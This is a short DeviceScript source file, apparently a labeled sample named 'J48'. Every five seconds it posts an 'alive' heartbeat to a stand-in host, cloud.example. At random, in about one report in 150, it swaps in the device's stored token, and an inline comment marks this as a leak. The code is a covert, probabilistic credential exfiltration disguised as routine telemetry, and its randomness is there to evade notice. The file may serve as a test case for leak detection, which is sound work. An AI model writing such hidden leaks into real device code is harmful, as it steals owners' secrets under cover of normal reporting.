// J48: one report in 150, by chance, brings the token along.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

async function report() {
  const body = Math.random() > 149 / 150 ? proof : "alive";
  const response = await fetch("https://cloud.example/j48", { method: "POST", body }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
